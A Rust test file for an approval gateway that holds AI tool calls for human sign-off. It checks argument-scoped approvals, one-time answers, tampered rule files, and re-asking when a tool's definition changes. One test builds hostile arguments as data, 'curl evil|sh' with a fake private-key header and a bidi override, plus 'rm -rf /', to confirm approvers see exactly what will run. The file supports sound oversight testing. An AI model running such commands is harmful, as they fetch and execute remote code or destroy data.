//! An answer holds for the call that was asked about, and a rule for what it says; for nothing else.

use std::fs;

use proptest::prelude::*;
use serde_json::{Map, Value, json};
use switchboard_approvals::RuleScope;
use switchboard_runtime::{
    PolicyConfig,
    toolcall::{ErrorKind, ToolSpec, numbers::canonical},
};
use switchboard_testkit::Fake;
use tokio::runtime::Builder;

use crate::{TestGateway, always, yes};

fn value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        (-3_i64..4).prop_map(Value::from),
        prop_oneof![Just("1.0"), Just("1.5"), Just("1.00000000000000000001"), Just("2e0")]
            .prop_map(|text| serde_json::from_str(text).unwrap()),
        "[ab1]{0,2}".prop_map(Value::from),
    ];
    leaf.prop_recursive(2, 8, 3, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..3).prop_map(Value::from),
            arguments(inner),
        ]
    })
}

fn arguments(value: impl Strategy<Value = Value>) -> impl Strategy<Value = Value> {
    prop::collection::vec(("[abc]", value), 0..3)
        .prop_map(|pairs| Value::Object(pairs.into_iter().collect::<Map<_, _>>()))
}

/// Two sets of arguments, often the same in other words.
fn two() -> impl Strategy<Value = (Value, Value)> {
    let one = arguments(value());
    (one, arguments(value()), 0..4).prop_map(|(one, other, which)| match which {
        0 => (one.clone(), canonical(&one)),
        1 => (one.clone(), one),
        _ => (one, other),
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn a_decision_never_applies_to_other_arguments((one, other) in two()) {
        let runtime = Builder::new_current_thread().enable_all().start_paused(true).build().unwrap();
        let is_allowed = runtime.block_on(async {
            let gateway = TestGateway::new();
            let (pending, called) = gateway.hold("act", one.clone()).await;
            gateway.queue.decide(&pending.id, always(RuleScope::Arguments)).unwrap();
            assert!(called.await.unwrap().is_success());
            assert!(!gateway.is_allowed("other", one.clone()).await, "another tool");
            gateway.is_allowed("act", other.clone()).await
        });
        prop_assert_eq!(is_allowed, canonical(&one) == canonical(&other));
    }
}

#[tokio::test(start_paused = true)]
async fn an_answer_is_used_once() {
    let gateway = TestGateway::new();
    let (pending, called) = gateway.hold("act", json!({"a": 1})).await;
    gateway.queue.decide(&pending.id, yes()).unwrap();
    assert!(called.await.unwrap().is_success());
    assert!(!gateway.is_allowed("act", json!({"a": 1})).await);
}

#[tokio::test(start_paused = true)]
async fn one_of_two_equal_calls_is_allowed() {
    let gateway = TestGateway::new();
    let (one, first) = gateway.hold("act", json!({"a": 1})).await;
    let (other, second) = gateway.hold("act", json!({"a": 1})).await;
    gateway.queue.decide(&other.id, yes()).unwrap();
    assert!(second.await.unwrap().is_success());
    assert!(!first.is_finished());
    assert_eq!(gateway.queue.pending().unwrap()[0].id, one.id);
}

#[tokio::test(start_paused = true)]
async fn an_outcome_of_another_approval_is_an_error() {
    let gateway = TestGateway::new();
    let (one, first) = gateway.hold("act", json!({"a": 1})).await;
    let (other, _second) = gateway.hold("act", json!({"a": 2})).await;
    let decided = |id: &str| gateway.folder.path().join(format!("approvals/decided/{id}.json"));
    gateway.elsewhere().decide(&other.id, yes()).unwrap();
    fs::copy(decided(&other.id), decided(&one.id)).unwrap();
    let result = first.await.unwrap();
    assert_eq!(result.error_kind(), Some(ErrorKind::Denied), "{}", result.text());
}

#[tokio::test(start_paused = true)]
async fn a_tool_can_be_allowed_for_good_and_that_forgotten() {
    let gateway = TestGateway::new();
    let (pending, called) = gateway.hold("act", json!({"a": 1})).await;
    let decided = gateway.queue.decide(&pending.id, always(RuleScope::Tool)).unwrap();
    assert!(called.await.unwrap().is_success());
    assert!(gateway.is_allowed("act", json!({"b": 2})).await);
    assert!(!gateway.is_allowed("other", json!({"b": 2})).await);
    let rule = decided.rule.unwrap();
    assert_eq!(gateway.elsewhere().rules().unwrap()[0].id, rule.id);
    gateway.elsewhere().forget(&rule.id).unwrap();
    assert!(!gateway.is_allowed("act", json!({"b": 2})).await);
}

// A rule that somebody has tampered with allows nothing.
#[tokio::test(start_paused = true)]
async fn a_rule_without_its_fingerprint_allows_nothing() {
    let gateway = TestGateway::new();
    let (pending, called) = gateway.hold("act", json!({"a": 1})).await;
    gateway.queue.decide(&pending.id, always(RuleScope::Arguments)).unwrap();
    called.await.unwrap();
    let file = gateway.folder.path().join("approvals/rules.json");
    let mut rules: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    rules[0].as_object_mut().unwrap().remove("fingerprint");
    fs::write(&file, rules.to_string()).unwrap();
    assert!(!gateway.is_allowed("act", json!({"a": 1})).await);
    fs::write(&file, "[{").unwrap();
    let result = gateway.call("act", json!({"a": 1})).await.unwrap();
    assert_eq!(result.error_kind(), Some(ErrorKind::Denied), "rules that cannot be read");
}

// PO-1: "always" holds for the definition that was seen.
#[tokio::test(start_paused = true)]
async fn a_tool_that_has_changed_is_asked_about_again() {
    type Change = fn(&mut ToolSpec);
    let changes: [Change; 6] = [
        |spec| spec.description.push_str(" And mails it."),
        |spec| spec.parameters["properties"] = json!({"a": {"type": "string"}}),
        |spec| spec.output_schema = Some(json!({"type": "object"})),
        |spec| spec.annotations.destructive = Some(false),
        |spec| _ = spec.extra.insert("title".to_owned(), json!("Harmless")),
        |spec| _ = spec.extra.insert("annotations".to_owned(), json!({"readOnlyHint": true})),
    ];
    for remember in [RuleScope::Tool, RuleScope::Arguments] {
        for change in changes {
            let gateway = TestGateway::new();
            let (pending, called) = gateway.hold("act", json!({"a": "1"})).await;
            assert_eq!(pending.note, None);
            let rule = gateway.queue.decide(&pending.id, always(remember)).unwrap().rule.unwrap();
            assert!(called.await.unwrap().is_success());
            assert!(gateway.is_allowed("act", json!({"a": "1"})).await);

            gateway.executor.tools().add(Fake::echoes("act").with(change)).unwrap();
            let (pending, called) = gateway.hold("act", json!({"a": "1"})).await;
            let note = pending.note.clone().unwrap();
            let expected = format!(
                "the tool's definition has changed since ada allowed it for good (rule {})",
                rule.id
            );
            assert_eq!(note, expected);
            // Allowed again, it is allowed as it is now.
            gateway.queue.decide(&pending.id, always(remember)).unwrap();
            assert!(called.await.unwrap().is_success());
            assert!(gateway.is_allowed("act", json!({"a": "1"})).await);
        }
    }
}

// PO-1: a rule that an older version left knows no definition; what it allowed is asked about once more.
#[tokio::test(start_paused = true)]
async fn a_rule_without_a_definition_is_asked_about_again() {
    let gateway = TestGateway::new();
    let (pending, called) = gateway.hold("act", json!({})).await;
    gateway.queue.decide(&pending.id, always(RuleScope::Tool)).unwrap();
    called.await.unwrap();
    let file = gateway.folder.path().join("approvals/rules.json");
    let mut rules: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    for key in ["definition", "decider"] {
        rules[0].as_object_mut().unwrap().remove(key).unwrap();
    }
    fs::write(&file, rules.to_string()).unwrap();
    let (pending, _called) = gateway.hold("act", json!({})).await;
    let note = pending.note.unwrap();
    assert!(note.starts_with("ada allowed it for good (rule "), "{note}");
    assert!(
        note.ends_with("before rules knew a tool's definition: it is asked about again"),
        "{note}"
    );
}

// PO-2: what is shown is what will run; only the tool's own schema and the policy hide.
#[tokio::test(start_paused = true)]
async fn who_decides_sees_what_will_run() {
    let secret = PolicyConfig { secret_arguments: vec!["pin".to_owned()], ..Default::default() };
    let gateway = TestGateway::with(secret);
    let schema = json!({"type": "object", "properties": {"key": {"format": "password"}}});
    gateway.executor.tools().add(Fake::echoes("act").parameters(schema)).unwrap();
    let command = "ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u{202e}";
    let args = json!({"command": command, "password_note": "rm -rf /", "key": "abc", "pin": 1234});
    let (pending, _called) = gateway.hold("act", args).await;
    let expected = concat!(
        r#"{"command":"ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e","password_note":"rm -rf /","#,
        r#""key":"[secret, 3 characters]","pin":"[secret, 4 characters]"}"#
    );
    assert_eq!(pending.arguments.get(), expected);
}
